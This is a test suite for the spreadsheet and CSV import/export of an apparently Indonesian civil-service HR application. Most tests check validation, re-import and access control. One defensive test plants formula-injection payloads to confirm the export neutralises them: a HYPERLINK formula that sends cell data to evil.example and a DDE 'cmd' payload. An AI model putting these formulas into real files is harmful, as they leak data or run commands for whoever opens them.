import { randomUUID } from 'node:crypto';
import { parse as parseCsvSync } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { FastifyInstance } from 'fastify';
import { describe, expect, it } from 'vitest';
import { useTestDatabase } from '../../../test/db.ts';
import { buildAkun, buildInstansi, buildJabatan, buildPegawai, buildUnit, login } from '../../../test/factories.ts';
import type { Database } from '../../db/client.ts';
import { generateDemo } from '../../db/seed/demo.ts';
import { buildApp } from '../../http/app.ts';
import { parseFile } from './exchange.parse.ts';
import { exchangeRoutes, exportData, importFile } from './index.ts';

const database = useTestDatabase();
const actor = { akunId: null, label: 'uji' };
const TODAY = '2026-01-15';

async function xlsx(sheets: Record<string, unknown[][]>): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  for (const [name, rows] of Object.entries(sheets)) {
    const ws = wb.addWorksheet(name);
    for (const r of rows) ws.addRow(r);
  }
  return Buffer.from(await wb.xlsx.writeBuffer());
}

/** A small SIASN-shaped workbook: SIASN-style headers (Kode Unor, Diatasan Id, Nip Baru, Gelar Blk, Tgl Lhr …). */
function siasnSheets() {
  return {
    UNOR: [
      ['Kode Unor', 'Nama Unor', 'Diatasan Id', 'Jenis Unor', 'Jabatan Kepala Kode'],
      ['00', 'Pemerintah Kabupaten Contoh', null, 'PEMDA', null],
      ['05', 'Dinas Komunikasi dan Informatika', '00', 'DINAS', '05-01'],
      ['05.01', 'Bidang Aplikasi Informatika', '05', 'BIDANG', '05.01-01'],
      ['05.01.01', 'Seksi Layanan Aplikasi', '05.01', 'SEKSI', '05.01.01-01'],
    ],
    JABATAN: [
      [
        'Jabatan Kode',
        'Jabatan Nama',
        'Jenis Jabatan',
        'Jenjang',
        'Eselon',
        'Unor Kode',
        'Atasan Jabatan Kode',
        'Kelas',
      ],
      ['05-01', 'Kepala Dinas Komunikasi dan Informatika', 'Struktural', null, 'II.b', '05', null, 14],
      ['05.01-01', 'Kepala Bidang Aplikasi Informatika', 'ADMINISTRATOR', null, null, '05.01', null, 12],
      ['05.01.01-01', 'Kepala Seksi Layanan Aplikasi', 'PENGAWAS', null, null, '05.01.01', null, 9],
      ['05.01.01-02', 'Pranata Komputer Ahli Pertama', 'JFT', 'Ahli Pertama', null, '05.01.01', null, 8],
      ['05.01.01-03', 'Penata Layanan Operasional', 'Pelaksana', null, null, '05.01.01', null, 8],
    ],
    PEGAWAI: [
      [
        'Nip Baru',
        'Nama',
        'Gelar Depan',
        'Gelar Blk',
        'Jenis Asn',
        'Golongan',
        'Tgl Lhr',
        'Jenis Kelamin',
        'Email',
        'Nomor Hp',
        'Jabatan Id',
        'TMT Jabatan',
        'Unor Id',
      ],
      [
        '197503152000031002',
        'Hendra Saputra',
        'Ir.',
        'M.T.',
        'PNS',
        'IV/c',
        '15-03-1975',
        'L',
        'hendra@example.go.id',
        '0812-1111-2222',
        '05-01',
        '2022-01-03',
        '05',
      ],
      [
        '198210102006042003',
        'Rina Marlina',
        null,
        'S.Kom., M.Si.',
        'PNS',
        'IV/a',
        null,
        null,
        null,
        null,
        '05.01-01',
        '2021-06-01',
        '05.01',
      ],
      [
        '198807072011011001',
        'Asep Sutisna',
        null,
        'S.T.',
        'PNS',
        'III/c',
        null,
        null,
        null,
        null,
        '05.01.01-01',
        '2023-02-01',
        '05.01.01',
      ],
      [
        '199512122022212004',
        'Nabila Putri',
        null,
        'S.Kom.',
        'PPPK',
        'IX',
        null,
        'P',
        null,
        '081299990000',
        '05.01.01-02',
        '2022-03-01',
        '05.01.01',
      ],
      [
        '199001012015031003',
        'Dimas Pratama',
        null,
        'S.E.',
        'PNS',
        'III/b',
        null,
        null,
        null,
        null,
        '05.01.01-03',
        null,
        '05.01.01',
      ],
    ],
  };
}

async function counts(db: Database, instansiId: string) {
  const q = async (t: string) =>
    (await db.pool.query(`select count(*)::int as n from ${t} where instansi_id = $1`, [instansiId])).rows[0]
      .n as number;
  return {
    unit: await q('unit_organisasi'),
    jabatan: await q('jabatan'),
    pegawai: await q('pegawai'),
    penempatan: await q('penempatan'),
  };
}

async function newInstansi() {
  return (await buildInstansi(database())).id;
}

describe('import', () => {
  it('imports a SIASN-shaped workbook of units, positions and people in one go', async () => {
    const instansiId = await newInstansi();
    const progress: string[] = [];
    const result = await importFile(database(), {
      instansiId,
      actor,
      fileName: 'siasn.xlsx',
      bytes: await xlsx(siasnSheets()),
      today: TODAY,
      onProgress: (p) => progress.push(p.phase),
    });
    expect(result.errors).toEqual([]);
    expect(result).toMatchObject({ ok: true, created: 14, updated: 0, unchanged: 0 });
    expect(result.counts.penempatan).toEqual({ opened: 5, closed: 0 });
    expect(progress).toContain('write:pegawai');
    expect(await counts(database(), instansiId)).toEqual({ unit: 4, jabatan: 5, pegawai: 5, penempatan: 5 });

    const units = (
      await database().pool.query(
        `select u.kode, u.depth, u.path = coalesce(p.path, '/') || u.id || '/' as "pathOk", j.kode as kepala
           from unit_organisasi u left join unit_organisasi p on p.id = u.parent_id left join jabatan j on j.id = u.kepala_jabatan_id
          where u.instansi_id = $1 order by u.kode`,
        [instansiId],
      )
    ).rows;
    expect(units).toEqual([
      { kode: '00', depth: 0, pathOk: true, kepala: null },
      { kode: '05', depth: 1, pathOk: true, kepala: '05-01' },
      { kode: '05.01', depth: 2, pathOk: true, kepala: '05.01-01' },
      { kode: '05.01.01', depth: 3, pathOk: true, kepala: '05.01.01-01' },
    ]);
    const people = (
      await database().pool.query(
        `select p.nip, p.golongan, p.tanggal_lahir, p.jenis_kelamin, p.telepon, j.kode as jabatan, j.jenis, pl.mulai
           from pegawai p join penempatan pl on pl.pegawai_id = p.id join jabatan j on j.id = pl.jabatan_id
          where p.instansi_id = $1 order by p.nip`,
        [instansiId],
      )
    ).rows;
    expect(people[0]).toEqual({
      nip: '197503152000031002',
      golongan: 'IV/c',
      tanggal_lahir: '1975-03-15',
      jenis_kelamin: 'L',
      telepon: '081211112222',
      jabatan: '05-01',
      jenis: 'JPT_PRATAMA',
      mulai: '2022-01-03',
    });
    expect(people.find((p) => p.nip === '199001012015031003')?.mulai).toBe(TODAY);
    expect(people.find((p) => p.nip === '199512122022212004')).toMatchObject({
      golongan: 'IX',
      tanggal_lahir: '1995-12-12',
      jenis: 'FUNGSIONAL',
    });
    const audit = (
      await database().pool.query(
        `select entity_id, after from audit_log where instansi_id = $1 and entity = 'import' order by entity_id`,
        [instansiId],
      )
    ).rows;
    expect(audit.map((a) => [a.entity_id, a.after.created])).toEqual([
      ['jabatan', 5],
      ['pegawai', 5],
      ['unor', 4],
    ]);
  });

  it('refuses a file with bad rows whole, reporting every error with its row and column', async () => {
    const instansiId = await newInstansi();
    const sheets = siasnSheets();
    sheets.UNOR.push(['05.02', 'Bidang Tanpa Induk', '99', 'BIDANG', null]);
    sheets.JABATAN.push(['05.01.01-04', 'Analis', 'Fungsional', 'Ahli Sangat Muda', null, '05.01.01', null, 30]);
    sheets.PEGAWAI.push(
      [
        '199013312015031001',
        'Tanggal Salah',
        null,
        null,
        'PNS',
        'III/a',
        null,
        null,
        null,
        null,
        '05.01.01-03',
        null,
        null,
      ],
      [
        '199001012015033001',
        'Kelamin Salah',
        null,
        null,
        'PNS',
        'III/a',
        null,
        null,
        'bukan-email',
        null,
        '05.01.01-03',
        null,
        null,
      ],
      [
        '199312282025212001',
        'PPPK sebagai PNS',
        null,
        null,
        'PNS',
        null,
        null,
        null,
        null,
        null,
        '05.01.01-09',
        null,
        null,
      ],
      ['197503152000031002', 'Duplikat', null, null, 'PNS', 'IV/c', null, null, null, null, null, null, null],
    );
    const before = await counts(database(), instansiId);
    const audits = (
      await database().pool.query('select count(*)::int as n from audit_log where instansi_id = $1', [instansiId])
    ).rows[0].n;
    const result = await importFile(database(), {
      instansiId,
      actor,
      fileName: 'salah.xlsx',
      bytes: await xlsx(sheets),
      today: TODAY,
    });
    expect(result.ok).toBe(false);
    expect(result.errors.map((e) => `${e.sheet}!${e.column}${e.row} ${e.code}`)).toEqual([
      'UNOR!Diatasan Id6 EXCHANGE.UNKNOWN_REFERENCE',
      'JABATAN!Jenjang7 EXCHANGE.INVALID_VALUE',
      'JABATAN!Kelas7 EXCHANGE.INVALID_VALUE',
      'PEGAWAI!Nip Baru7 NIP.BIRTH_DATE_INVALID',
      'PEGAWAI!Nip Baru8 NIP.GENDER_INVALID',
      'PEGAWAI!Email8 EXCHANGE.INVALID_VALUE',
      'PEGAWAI!Nip Baru9 NIP.APPOINTMENT_MONTH_INVALID',
      'PEGAWAI!Jabatan Id9 EXCHANGE.UNKNOWN_REFERENCE',
      'PEGAWAI!Nip Baru10 EXCHANGE.DUPLICATE',
    ]);
    for (const e of result.errors) {
      expect(e.message.id.length).toBeGreaterThan(10);
      expect(e.message.en.length).toBeGreaterThan(10);
    }
    expect(await counts(database(), instansiId)).toEqual(before);
    expect(
      (await database().pool.query('select count(*)::int as n from audit_log where instansi_id = $1', [instansiId]))
        .rows[0].n,
    ).toBe(audits);

    // The corrected file imports.
    const fixed = await importFile(database(), {
      instansiId,
      actor,
      fileName: 'benar.xlsx',
      bytes: await xlsx(siasnSheets()),
      today: TODAY,
    });
    expect(fixed.ok).toBe(true);
  });

  it('updates by NIP on re-import and never duplicates, auditing what changed', async () => {
    const instansiId = await newInstansi();
    const bytes = await xlsx(siasnSheets());
    await importFile(database(), { instansiId, actor, fileName: 'a.xlsx', bytes, today: TODAY });
    const again = await importFile(database(), { instansiId, actor, fileName: 'a.xlsx', bytes, today: TODAY });
    expect(again).toMatchObject({ ok: true, created: 0, updated: 0, unchanged: 14 });
    expect(await counts(database(), instansiId)).toEqual({ unit: 4, jabatan: 5, pegawai: 5, penempatan: 5 });

    const sheets = siasnSheets();
    sheets.PEGAWAI[2][1] = 'Rina Marlina Dewi';
    sheets.PEGAWAI[2][8] = 'rina@example.go.id';
    sheets.UNOR[3][1] = 'Bidang Aplikasi Informatika dan Persandian';
    const changed = await importFile(database(), {
      instansiId,
      actor,
      fileName: 'b.xlsx',
      bytes: await xlsx(sheets),
      today: TODAY,
    });
    expect(changed).toMatchObject({ ok: true, created: 0, updated: 2, unchanged: 12 });
    expect(await counts(database(), instansiId)).toEqual({ unit: 4, jabatan: 5, pegawai: 5, penempatan: 5 });
    const row = (
      await database().pool.query(
        `select nama, email, version from pegawai where instansi_id = $1 and nip = '198210102006042003'`,
        [instansiId],
      )
    ).rows[0];
    expect(row).toEqual({ nama: 'Rina Marlina Dewi', email: 'rina@example.go.id', version: 2 });
    const audit = (
      await database().pool.query(
        `select before, after from audit_log where instansi_id = $1 and action = 'pegawai.import-update'`,
        [instansiId],
      )
    ).rows;
    expect(audit).toEqual([
      {
        before: { nama: 'Rina Marlina', email: null },
        after: { nama: 'Rina Marlina Dewi', email: 'rina@example.go.id' },
      },
    ]);
  });

  it('keeps the placement history when a position changes, and does not repeat it', async () => {
    const instansiId = await newInstansi();
    await importFile(database(), {
      instansiId,
      actor,
      fileName: 'a.xlsx',
      bytes: await xlsx(siasnSheets()),
      today: TODAY,
    });
    const sheets = siasnSheets();
    // Dimas (pelaksana since the first import, "today") becomes a Pranata Komputer from 1 February 2026.
    sheets.PEGAWAI[5][10] = '05.01.01-02';
    sheets.PEGAWAI[5][11] = '2026-02-01';
    const bytes = await xlsx(sheets);
    const moved = await importFile(database(), { instansiId, actor, fileName: 'b.xlsx', bytes, today: TODAY });
    expect(moved).toMatchObject({ ok: true, updated: 1 });
    expect(moved.counts.penempatan).toEqual({ opened: 1, closed: 1 });
    const history = async () =>
      (
        await database().pool.query(
          `select j.kode, pl.mulai, pl.selesai from penempatan pl join pegawai p on p.id = pl.pegawai_id join jabatan j on j.id = pl.jabatan_id
            where p.instansi_id = $1 and p.nip = '199001012015031003' order by pl.mulai`,
          [instansiId],
        )
      ).rows;
    const rows = await history();
    expect(rows).toHaveLength(2);
    expect(rows).toEqual([
      { kode: '05.01.01-03', mulai: TODAY, selesai: '2026-01-31' },
      { kode: '05.01.01-02', mulai: '2026-02-01', selesai: null },
    ]);
    const again = await importFile(database(), { instansiId, actor, fileName: 'b.xlsx', bytes, today: TODAY });
    expect(again.counts.penempatan).toEqual({ opened: 0, closed: 0 });
    expect(await history()).toHaveLength(2);
  });

  it('places people by the SIASN position name within their unit, and refuses a file with an unknown name whole', async () => {
    const instansiId = await newInstansi();
    const { UNOR, JABATAN } = siasnSheets();
    // SIASN's own export names the position ("Nama Jabatan") and the unit ("Unor Id"): no JABATAN_KODE column.
    const byName = (people: string[][]) => ({
      UNOR,
      JABATAN,
      PEGAWAI: [['Nip Baru', 'Nama', 'Jenis Asn', 'Nama Jabatan', 'Unor Id'], ...people],
    });
    const people = [
      ['197503152000031002', 'Hendra Saputra', 'PNS', 'Kepala Dinas Komunikasi dan Informatika', '05'],
      ['198807072011011001', 'Asep Sutisna', 'PNS', 'kepala seksi  layanan aplikasi', '05.01.01'],
      ['199512122022212004', 'Nabila Putri', 'PPPK', 'Pranata Komputer Ahli Pertama', '05.01.01'],
    ];
    const bytes = await xlsx(byName(people));
    const result = await importFile(database(), { instansiId, actor, fileName: 'siasn.xlsx', bytes, today: TODAY });
    expect(result.errors).toEqual([]);
    expect(result).toMatchObject({ ok: true, created: 12 });
    expect(result.counts.penempatan).toEqual({ opened: 3, closed: 0 });
    const placements = async () =>
      (
        await database().pool.query(
          `select p.nip, j.kode, pl.jenis, pl.mulai, pl.selesai
             from penempatan pl join pegawai p on p.id = pl.pegawai_id join jabatan j on j.id = pl.jabatan_id
            where p.instansi_id = $1 order by p.nip`,
          [instansiId],
        )
      ).rows;
    const placed = [
      { nip: '197503152000031002', kode: '05-01', jenis: 'DEFINITIF', mulai: TODAY, selesai: null },
      { nip: '198807072011011001', kode: '05.01.01-01', jenis: 'DEFINITIF', mulai: TODAY, selesai: null },
      { nip: '199512122022212004', kode: '05.01.01-02', jenis: 'DEFINITIF', mulai: TODAY, selesai: null },
    ];
    expect(await placements()).toEqual(placed);

    const again = await importFile(database(), { instansiId, actor, fileName: 'siasn.xlsx', bytes, today: TODAY });
    expect(again).toMatchObject({ ok: true, created: 0, updated: 0, unchanged: 12 });
    expect(again.counts.penempatan).toEqual({ opened: 0, closed: 0 });
    expect(await placements()).toEqual(placed);

    const before = await counts(database(), instansiId);
    const bad = await importFile(database(), {
      instansiId,
      actor,
      fileName: 'siasn-salah.xlsx',
      bytes: await xlsx(
        byName([
          ...people,
          ['198210102006042003', 'Rina Marlina', 'PNS', 'Kepala Bidang Aplikasi Informatika', '05.01'],
          ['199001012015031003', 'Dimas Pratama', 'PNS', 'Penata Layanan Operasional Ahli', '05.01.01'],
        ]),
      ),
      today: TODAY,
    });
    expect(bad.ok).toBe(false);
    expect(bad.errors.map((e) => `${e.sheet}!${e.column}${e.row} ${e.code} ${e.value}`)).toEqual([
      'PEGAWAI!Nama Jabatan6 EXCHANGE.JABATAN_NAME_UNKNOWN Penata Layanan Operasional Ahli',
    ]);
    expect(bad.errors[0].message.en).toContain('unit "Seksi Layanan Aplikasi" (05.01.01)');
    expect(await counts(database(), instansiId)).toEqual(before);
    expect(await placements()).toEqual(placed);
  });

  it('moves a unit with its subtree: paths of descendants not in the file follow', async () => {
    const instansiId = await newInstansi();
    await importFile(database(), {
      instansiId,
      actor,
      fileName: 'a.xlsx',
      bytes: await xlsx(siasnSheets()),
      today: TODAY,
    });
    const moved = await importFile(database(), {
      instansiId,
      actor,
      fileName: 'pindah.xlsx',
      bytes: await xlsx({
        UNOR: [
          ['UNOR_KODE', 'UNOR_NAMA', 'UNOR_INDUK_KODE'],
          ['05.01', 'Bidang Aplikasi Informatika', '00'],
        ],
      }),
      today: TODAY,
    });
    expect(moved).toMatchObject({ ok: true, updated: 1, unchanged: 0 });
    const rows = (
      await database().pool.query(
        `select u.kode, u.depth, u.path = coalesce(p.path, '/') || u.id || '/' as "pathOk"
           from unit_organisasi u left join unit_organisasi p on p.id = u.parent_id where u.instansi_id = $1 order by u.kode`,
        [instansiId],
      )
    ).rows;
    expect(rows).toEqual([
      { kode: '00', depth: 0, pathOk: true },
      { kode: '05', depth: 1, pathOk: true },
      { kode: '05.01', depth: 1, pathOk: true },
      { kode: '05.01.01', depth: 2, pathOk: true },
    ]);
  });

  it('imports one entity per CSV file, detected from the headers, with ; as separator', async () => {
    const instansiId = await newInstansi();
    const toCsv = (rows: unknown[][]) =>
      Buffer.from(rows.map((r) => r.map((c) => (c === null ? '' : String(c))).join(';')).join('\r\n'));
    const s = siasnSheets();
    // Units first without their heads; positions then name themselves head with KEPALA_UNOR = Y.
    s.UNOR = s.UNOR.map((r) => r.slice(0, 4));
    s.JABATAN = s.JABATAN.map((r, i) => [...r, i === 0 ? 'Kepala Unor' : i <= 3 ? 'Y' : null]);
    for (const [name, rows] of [
      ['unor.csv', s.UNOR],
      ['jabatan.csv', s.JABATAN],
      ['pegawai.csv', s.PEGAWAI],
    ] as const) {
      const r = await importFile(database(), {
        instansiId,
        actor,
        fileName: name,
        bytes: toCsv(rows as unknown[][]),
        today: TODAY,
      });
      expect(r.errors).toEqual([]);
      expect(r.ok).toBe(true);
    }
    expect(await counts(database(), instansiId)).toEqual({ unit: 4, jabatan: 5, pegawai: 5, penempatan: 5 });
    const heads = (
      await database().pool.query(
        `select count(*)::int as n from unit_organisasi where instansi_id = $1 and kepala_jabatan_id is not null`,
        [instansiId],
      )
    ).rows[0].n;
    expect(heads).toBe(3);
  });

  it('validates without writing on a dry run', async () => {
    const instansiId = await newInstansi();
    const r = await importFile(database(), {
      instansiId,
      actor,
      fileName: 'a.xlsx',
      bytes: await xlsx(siasnSheets()),
      today: TODAY,
      dryRun: true,
    });
    expect(r).toMatchObject({ ok: true, dryRun: true, created: 14 });
    expect(await counts(database(), instansiId)).toEqual({ unit: 0, jabatan: 0, pegawai: 0, penempatan: 0 });
  });
});

describe('export', () => {
  it('exports the demo government and re-imports the export unchanged (XLSX and CSV)', async () => {
    const demo = await generateDemo(database(), { pegawai: 150, seed: 4, kode: `EXP-${randomUUID().slice(0, 8)}` });
    const all = await exportData(database(), { instansiId: demo.instansiId, jenis: 'semua', format: 'xlsx' });
    const parsed = parseFile(all.body, { fileName: all.fileName });
    expect(parsed.sheets.map((s) => [s.entity, s.rows.length])).toEqual([
      ['unor', demo.counts.unit],
      ['jabatan', demo.counts.jabatan],
      ['pegawai', 150],
    ]);
    const before = await counts(database(), demo.instansiId);
    const r = await importFile(database(), {
      instansiId: demo.instansiId,
      actor,
      fileName: all.fileName,
      bytes: all.body,
    });
    expect(r.errors).toEqual([]);
    expect(r).toMatchObject({ ok: true, created: 0, updated: 0 });
    expect(await counts(database(), demo.instansiId)).toEqual(before);
    for (const jenis of ['unor', 'jabatan', 'pegawai'] as const) {
      const csv = await exportData(database(), { instansiId: demo.instansiId, jenis, format: 'csv' });
      const rr = await importFile(database(), {
        instansiId: demo.instansiId,
        actor,
        fileName: csv.fileName,
        bytes: csv.body,
      });
      expect(rr).toMatchObject({ ok: true, created: 0, updated: 0 });
      const again = await exportData(database(), { instansiId: demo.instansiId, jenis, format: 'csv' });
      expect(again.body.equals(csv.body)).toBe(true);
    }
  });

  it('neutralises formulas planted in names in every CSV and re-imports the export unchanged', async () => {
    const db = database();
    const inst = await buildInstansi(db);
    const pemda = await buildUnit(db, inst.id, { nama: '=HYPERLINK("http://evil.example/?d="&A2,"Klik")' });
    const unit = await buildUnit(db, inst.id, { nama: "=cmd|' /C calc'!A0", parent: pemda });
    const jab = await buildJabatan(db, inst.id, unit, { nama: '@SUM(1+1)*cmd|x' });
    const p = await buildPegawai(db, inst.id, { nama: '-2+3+cmd|x', jabatan: jab });
    // Birth date and sex as the import derives them from the NIP, so only the planted values are in play.
    await db.pool.query(
      `update pegawai set telepon = '+6281234567890', gelar_depan = '=1+1',
              tanggal_lahir = to_date(substr(nip, 1, 8), 'YYYYMMDD'),
              jenis_kelamin = case substr(nip, 15, 1) when '1' then 'L' else 'P' end
        where id = $1`,
      [p.id],
    );
    for (const jenis of ['unor', 'jabatan', 'pegawai'] as const) {
      const csv = await exportData(db, { instansiId: inst.id, jenis, format: 'csv' });
      const text = csv.body.toString('utf8');
      const cells = parseCsvSync(text.replace(/^\uFEFF/, '')) as string[][];
      for (const c of cells.flat()) expect(c, `${jenis}: ${c}`).not.toMatch(/^[=+\-@\t\r]/);
      const r = await importFile(db, { instansiId: inst.id, actor, fileName: csv.fileName, bytes: csv.body });
      expect(r.errors, jenis).toEqual([]);
      expect(r, jenis).toMatchObject({ ok: true, created: 0, updated: 0 });
    }
    const pegawaiCsv = (await exportData(db, { instansiId: inst.id, jenis: 'pegawai', format: 'csv' })).body.toString();
    expect(pegawaiCsv).toContain(`"'-2+3+cmd|x"`);
    expect(pegawaiCsv).toContain(`"'+6281234567890"`);
    expect(pegawaiCsv).toContain(`"'=1+1"`);
    const stored = await db.pool.query('select nama, telepon, gelar_depan from pegawai where id = $1', [p.id]);
    expect(stored.rows[0]).toEqual({ nama: '-2+3+cmd|x', telepon: '+6281234567890', gelar_depan: '=1+1' });
  });

  it('imports an exported instansi into an empty one with the same content', async () => {
    const demo = await generateDemo(database(), { pegawai: 120, seed: 5, kode: `EXP-${randomUUID().slice(0, 8)}` });
    const all = await exportData(database(), { instansiId: demo.instansiId, jenis: 'semua', format: 'xlsx' });
    const target = await newInstansi();
    const r = await importFile(database(), { instansiId: target, actor, fileName: all.fileName, bytes: all.body });
    expect(r.errors).toEqual([]);
    const csvOf = async (id: string) =>
      (await exportData(database(), { instansiId: id, jenis: 'pegawai', format: 'csv' })).body.toString();
    expect(await csvOf(target)).toBe(await csvOf(demo.instansiId));
  });
});

describe('HTTP routes', () => {
  async function appWithRoutes(): Promise<FastifyInstance> {
    const app = await buildApp(database());
    if (!app.routeCatalog.some((r) => r.url === '/api/instansi/:instansiId/import'))
      await app.register(exchangeRoutes, { prefix: '/api' });
    return app;
  }

  function multipart(fileName: string, bytes: Buffer) {
    const boundary = `----kinerja${randomUUID()}`;
    const head = Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\nContent-Type: application/octet-stream\r\n\r\n`,
    );
    return {
      payload: Buffer.concat([head, bytes, Buffer.from(`\r\n--${boundary}--\r\n`)]),
      contentType: `multipart/form-data; boundary=${boundary}`,
    };
  }

  it('lets the agency admin import through a background job and poll its progress and result', async () => {
    const app = await appWithRoutes();
    const instansiId = await newInstansi();
    const admin = await buildAkun(database(), { instansiId, peran: ['ADMIN_INSTANSI'] });
    const cookie = await login(app, admin.username);
    const body = multipart('siasn.xlsx', await xlsx(siasnSheets()));
    const res = await app.inject({
      method: 'POST',
      url: `/api/instansi/${instansiId}/import`,
      headers: { cookie, 'content-type': body.contentType },
      payload: body.payload,
    });
    expect(res.statusCode).toBe(202);
    const { jobId, statusUrl } = res.json();
    let job = (await app.inject({ url: statusUrl, headers: { cookie } })).json();
    for (let i = 0; i < 100 && (job.status === 'QUEUED' || job.status === 'RUNNING'); i++) {
      await new Promise((r) => setTimeout(r, 50));
      job = (await app.inject({ url: statusUrl, headers: { cookie } })).json();
    }
    expect(job).toMatchObject({ id: jobId, status: 'SUCCEEDED', result: { ok: true, created: 14 } });

    const dry = await app.inject({
      method: 'POST',
      url: `/api/instansi/${instansiId}/import?dryRun=true&jenis=pegawai`,
      headers: { cookie },
      payload: {
        fileName: 'p.csv',
        contentBase64: Buffer.from('NIP_BARU,NAMA,JENIS_ASN\n199013312015031001,X,PNS\n').toString('base64'),
      },
    });
    expect(dry.statusCode).toBe(200);
    expect(dry.json()).toMatchObject({
      ok: false,
      dryRun: true,
      errors: [{ row: 2, column: 'NIP_BARU', code: 'NIP.BIRTH_DATE_INVALID' }],
    });

    const exported = await app.inject({
      url: `/api/instansi/${instansiId}/export?jenis=pegawai&format=csv`,
      headers: { cookie },
    });
    expect(exported.statusCode).toBe(200);
    expect(exported.headers['content-disposition']).toMatch(/attachment; filename="kinerja-pegawai-.*\.csv"/);
    expect(exported.body).toContain('197503152000031002');
    const template = await app.inject({
      url: `/api/instansi/${instansiId}/import/template?format=xlsx`,
      headers: { cookie },
    });
    expect(template.statusCode).toBe(200);
    expect(template.headers['content-type']).toContain('spreadsheetml');
    await app.close();
  });

  it('refuses imports to everyone but the agency admin and super admin; auditors may export', async () => {
    const app = await appWithRoutes();
    const instansiId = await newInstansi();
    const auditor = await buildAkun(database(), { instansiId, peran: ['AUDITOR'] });
    const other = await buildAkun(database(), { instansiId: await newInstansi(), peran: ['ADMIN_INSTANSI'] });
    const payload = { fileName: 'p.csv', contentBase64: Buffer.from('NIP_BARU,NAMA,JENIS_ASN\n').toString('base64') };
    const auditorCookie = await login(app, auditor.username);
    expect(
      (
        await app.inject({
          method: 'POST',
          url: `/api/instansi/${instansiId}/import`,
          headers: { cookie: auditorCookie },
          payload,
        })
      ).statusCode,
    ).toBe(403);
    expect(
      (
        await app.inject({
          url: `/api/instansi/${instansiId}/export?jenis=unor&format=csv`,
          headers: { cookie: auditorCookie },
        })
      ).statusCode,
    ).toBe(200);
    const otherCookie = await login(app, other.username);
    expect(
      (
        await app.inject({
          method: 'POST',
          url: `/api/instansi/${instansiId}/import`,
          headers: { cookie: otherCookie },
          payload,
        })
      ).statusCode,
    ).toBe(404);
    expect((await app.inject({ method: 'POST', url: `/api/instansi/${instansiId}/import`, payload })).statusCode).toBe(
      401,
    );
    await app.close();
  });
});
